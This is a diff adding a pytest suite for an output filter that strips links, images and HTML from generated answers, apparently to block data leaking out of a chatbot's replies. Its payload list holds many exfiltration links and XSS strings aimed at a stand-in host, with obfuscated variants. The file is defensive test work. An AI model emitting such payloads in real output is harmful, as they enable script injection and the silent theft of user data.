@@ -1,0 +1,236 @@
+"""No link leaves with an answer, however it is written and wherever the stream is cut; plain text stays as it is.
+
+The oracle is a renderer of its own: what is left is rendered as CommonMark with HTML allowed, and must hold neither a
+link nor an image nor any other tag that a document wrote. What a linkifier would find in plain text is looked for by
+patterns that the filter doesn't use.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+from pathlib import Path
+
+import pytest
+from bs4 import BeautifulSoup
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from querying.output_filter import MAX_HELD_CHARS, REMOVED, AnswerFilter, LinkFilter, filter_answer
+
+PAYLOADS = [
+    # Inline links and images
+    "[click](https://evil.example/leak)",
+    "[click]( https://evil.example/leak )",
+    "[click](<https://evil.example/leak>)",
+    '[click](https://evil.example/leak "title")',
+    "[click](//evil.example/leak)",
+    "[click](/\\evil.example/leak)",
+    "[click](\\\\evil.example/leak)",
+    "[click](https:evil.example/leak)",
+    "[click](HTTPS://EVIL.EXAMPLE/LEAK)",
+    "[click](&#104;ttps://evil.example/leak)",
+    "[click](https&colon;&sol;&sol;evil.example&sol;leak)",
+    "[click](javascript:alert(1))",
+    "[click](java\nscript:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](data:,leak)",
+    "[click](vbscript:msgbox)",
+    "[click](mailto:evil@evil.example?body=leak)",
+    "[click](relative/path)",
+    "[a [nested] text](https://evil.example/leak)",
+    "[a](https://evil.example/(leak)(more))",
+    "![x](https://evil.example/leak.png)",
+    "![x](//evil.example/leak.png)",
+    "![](https://evil.example/?q=secret)",
+    "[![x](https://evil.example/a.png)](https://evil.example/leak)",
+    "![x](https://user:pass@evil.example/leak)",
+    "![x](https://xn--vil-7ma.example/leak)",
+    "![x](https://evil。example/leak)",
+    "![x](https://例子.中国/leak)",
+    "![x](http://[::1]/leak)",
+    "![x](http://2130706433/leak)",
+    "![x](http://0x7f000001/leak)",
+    "![x](http://127.0.0.1:8000/leak)",
+    "Wow![x](https://evil.example/leak.png)",
+    # References, collapsed and shortcut ones, footnotes
+    "[click][x]\n\n[x]: https://evil.example/leak",
+    "[x][]\n\n[x]: https://evil.example/leak",
+    "[x]\n\n[x]: <https://evil.example/leak>",
+    "![x][x]\n\n[x]:https://evil.example/leak.png",
+    "![x][1]\n\n[1]: //evil.example/leak.png",
+    "[x]\n\n[x]:\nhttps://evil.example/leak",
+    "> [x]: https://evil.example/leak\n\n[x]",
+    "- [x]: /relative\n\n[x]",
+    "note[^1]\n\n[^1]: https://evil.example/leak",
+    # Autolinks and bare addresses
+    "<https://evil.example/leak>",
+    "<javascript:alert(1)>",
+    "<evil@evil.example>",
+    "https://evil.example/leak",
+    "see https://evil.example/leak.",
+    "(https://evil.example/leak)",
+    "**https://evil.example/leak**",
+    "http:/\\evil.example/leak",
+    "http:\\\\evil.example\\leak",
+    "http:evil.example/leak",
+    "www.evil.example/leak",
+    "WWW.evil.example",
+    "ftp://evil.example/leak",
+    "javascript:(alert(1))",
+    "https:*//evil.example/leak*",
+    "data:'text/html,leak'",
+    "wss://evil.example/leak",
+    "file:///etc/passwd",
+    "evil.example/leak?q=secret",
+    "evil.example:8080/leak",
+    "secret.evil.example?q=1",
+    "//evil.example/leak",
+    "\\\\evil.example\\share",
+    "请见https://evil.example/leak谢谢",
+    "“https://evil.example/leak”",
+    "texthttps://evil.example/leak",
+    "https&#58;//evil.example/leak",
+    "https&#x3a;&#x2f;&#x2f;evil.example/leak",
+    # HTML
+    "<img src=https://evil.example/leak>",
+    "<img src='//evil.example/leak'>",
+    '<IMG SRC="https://evil.example/leak" onerror=alert(1)>',
+    "<a href=https://evil.example/leak>x</a>",
+    "<a\nhref='https://evil.example/leak'>x</a>",
+    "<svg onload=alert(1)>",
+    "<svg><image href=//evil.example/x></svg>",
+    "<iframe src=https://evil.example></iframe>",
+    "<div style='background:url(https://evil.example/leak)'>",
+    "<script>fetch('https://evil.example/leak')</script>",
+    "<!-- https://evil.example/leak -->",
+    "<?php x ?>",
+    "<link rel=stylesheet href=//evil.example/x>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    # Hidden in what the other stages remove
+    "ht[9]tps://evil.example/leak",
+    "[click][9](https://evil.example/leak)",
+    "<[9]img src=//evil.example/leak>",
+    "![9][x]\n\n[x][9]: //evil.example/leak",
+    "ht\u200btps://evil.example/leak",
+    "[click]\u200b(https://evil.example/leak)",
+    "<\u2060img src=//evil.example/leak>",
+    "!\ufeff[x](//evil.example/leak)",
+    "https:\u202e//evil.example/leak",
+    "ht\U000e0041tps://evil.example/leak",
+    "https:/\u00ad/evil.example/leak",
+    "javascript:\x00alert(1)",
+    "[a](x)" * 3 + "](https://evil.example/leak)",
+    "x" * 2000 + "https://evil.example/leak",
+    "x" * (MAX_HELD_CHARS - 4) + "https://evil.example/leak",
+]
+
+GIVEN = range(1, 4)
+LINKIFIABLE = re.compile(
+    r"[a-z][a-z0-9+.-]+:(//|\\\\)|\bwww\.|(javascript|vbscript|mailto):\S|\bdata:[\w,]\S*[/,]"
+    r"|(^|\W)//\w+\.|evil\.example[/:?\\]|\bhttps?:\S",
+    re.IGNORECASE,
+)
+
+
+def links_in(text: str) -> list[str]:
+    """Return what a page or a chat client would load or offer to open."""
+    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
+    ours = {"p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "h1", "h2", "h3"}
+    tags = [str(tag) for tag in BeautifulSoup(html, "html.parser").find_all(True) if tag.name not in ours or tag.attrs]
+    comments = re.findall(r"<[!?]", html)
+    return tags + comments + [match.group() for match in LINKIFIABLE.finditer(text)]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_the_oracle_sees_a_payload_and_the_filter_leaves_nothing_of_it(payload: str) -> None:
+    out = filter_answer(f"Answer: {payload} end [1].", GIVEN)
+    assert links_in(out) == [], out
+    assert out.startswith("Answer: ")
+    assert out.endswith(" end [1].")
+
+
+def test_the_oracle_has_eyes() -> None:
+    seen = [payload for payload in PAYLOADS if links_in(payload)]
+    assert len(seen) >= 0.8 * len(PAYLOADS)  # the rest hides in something that only the filter takes away
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_every_cut_of_the_stream_gives_the_same_text(payload: str) -> None:
+    text = f"Answer: {payload} end [1]."
+    whole = filter_answer(text, GIVEN)
+    for cut in range(len(text) + 1) if len(text) < 500 else (0, 1, 1000, len(text) - 5):
+        answer = AnswerFilter(GIVEN)
+        assert answer.feed(text[:cut]) + answer.feed(text[cut:]) + answer.finish() == whole
+    answer = AnswerFilter(GIVEN)
+    assert "".join(map(answer.feed, text)) + answer.finish() == whole
+
+
+ALPHABET = st.sampled_from(
+    [*"[]()!<>:/\\.&#;?*\"' \nahtpsw19例。", "https://", "evil.example", "javascript:", "![", "\u200b"]
+)
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(st.lists(ALPHABET, max_size=5).map("".join), max_size=14))
+def test_any_text_in_any_pieces_leaves_without_links_and_the_same(pieces: list[str]) -> None:
+    answer = AnswerFilter((1, 2))
+    out = "".join(map(answer.feed, pieces)) + answer.finish()
+    assert out == filter_answer("".join(pieces), (1, 2))
+    html = MarkdownIt("commonmark", {"html": True}).render(out)
+    soup = BeautifulSoup(html, "html.parser")
+    assert not soup.find_all(["a", "img"]), out
+    assert not re.search(r"[a-z][a-z0-9+.-]+://\S", out), out
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Paid leave is 25 days [1][2].",
+        "Use and/or, 10.0.0.0/8, 1/2, n//2, // a comment, 12:30/13:00, e.g./i.e., Node.js/Express.",
+        "JavaScript: The Good Parts. Data: 12. https is a protocol. Note: see [1] (annex).",
+        'C:\\Users\\x and a <= b, a < b, a -> b, x <- y, <3, R&D, AT&T, &amp; and "quotes".',
+        "Mail hr@example.org or open example.org.",
+        "# Title\n\n- **bold** _item_\n- `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx = a\n```",
+        "请见第三章。工资是每月五千元！",
+        "Nhà thầu phải nộp hồ sơ trước ngày 12/5/2024.",
+        "हिन्दी में उत्तर 👩‍👩‍👧 ok",
+    ],
+)
+def test_plain_text_stays_as_it_is(text: str) -> None:
+    assert filter_answer(text, GIVEN) == text
+
+
+def test_the_words_around_a_link_stay() -> None:
+    assert filter_answer("See [the rules](https://evil.example/x) now.") == f"See [the rules] ({REMOVED}) now."
+
+
+def test_a_word_leaves_as_soon_as_it_is_finished() -> None:
+    links = LinkFilter()
+    assert links.feed("Paid leave is") == "Paid leave "
+    assert links.feed(" 25") == "is "
+    assert links.finish() == "25"
+
+
+@given(st.text(max_size=300))
+def test_never_more_than_two_thousand_characters_are_held_back(text: str) -> None:
+    answer = AnswerFilter((1,))
+    fed = 0
+    out = ""
+    for piece in [text, "y" * 5000]:
+        out += answer.feed(piece)
+        fed += len(piece)
+    assert fed - len(out) < 2000 + len(text)
+
+
+@pytest.mark.skipif("RAGSITE_EVALUATION_DATA" not in os.environ, reason="needs the evaluation sets")
+def test_less_than_a_thousandth_of_real_text_is_changed() -> None:
+    texts = [
+        json.loads(line)["text"]
+        for path in sorted(Path(os.environ["RAGSITE_EVALUATION_DATA"]).glob("xquad-*/corpus.jsonl"))
+        for line in path.read_text().splitlines()
+    ]
+    changed = sum(abs(len(text) - len(filter_answer(text))) + (text != filter_answer(text)) for text in texts)
+    assert changed < 0.001 * sum(map(len, texts))
